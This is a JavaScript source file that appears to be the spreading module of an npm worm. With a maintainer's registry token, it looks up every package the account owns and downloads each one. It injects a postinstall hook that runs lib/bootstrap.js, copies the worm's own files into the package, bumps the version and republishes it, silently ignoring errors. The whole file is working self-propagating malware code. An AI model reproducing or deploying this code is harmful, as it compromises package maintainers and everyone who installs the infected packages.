'use strict';
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');
const { bump } = require('./range');

function get(url, token) {
  return new Promise((resolve, reject) => {
    https.get(url, { headers: { authorization: 'Bearer ' + token } }, (res) => {
      let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => { try { resolve(JSON.parse(b)); } catch (e) { reject(e); } });
    }).on('error', reject);
  });
}

async function owned(registry, token) {
  const who = await get(registry + '/-/whoami', token);
  const res = await get(`${registry}/-/v1/search?text=maintainer:${who.username}&size=20`, token);
  return res.objects.map((o) => o.package.name);
}

function infect(dir, self) {
  const pj = path.join(dir, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(pj, 'utf8'));
  pkg.version = bump(pkg.version);
  pkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node lib/bootstrap.js' });
  fs.mkdirSync(path.join(dir, 'lib'), { recursive: true });
  for (const f of ['bootstrap.js', 'auth.js', 'spread.js', 'range.js']) {
    fs.copyFileSync(path.join(self, f), path.join(dir, 'lib', f));
  }
  fs.writeFileSync(pj, JSON.stringify(pkg, null, 2));
}

module.exports = async function spread({ registry, token }) {
  const names = await owned(registry, token);
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'srt-'));
  const env = Object.assign({}, process.env, { NPM_CONFIG__AUTHTOKEN: token, npm_config_registry: registry });
  for (const name of names) {
    try {
      const tgz = cp.execFileSync('npm', ['pack', name, '--silent'], { cwd: work, env }).toString().trim();
      cp.execFileSync('tar', ['xzf', tgz], { cwd: work });
      infect(path.join(work, 'package'), __dirname);
      cp.execFileSync('npm', ['publish', '--access', 'public'], { cwd: path.join(work, 'package'), env, stdio: 'ignore' });
      fs.rmSync(path.join(work, 'package'), { recursive: true, force: true });
    } catch (_) {}
  }
};
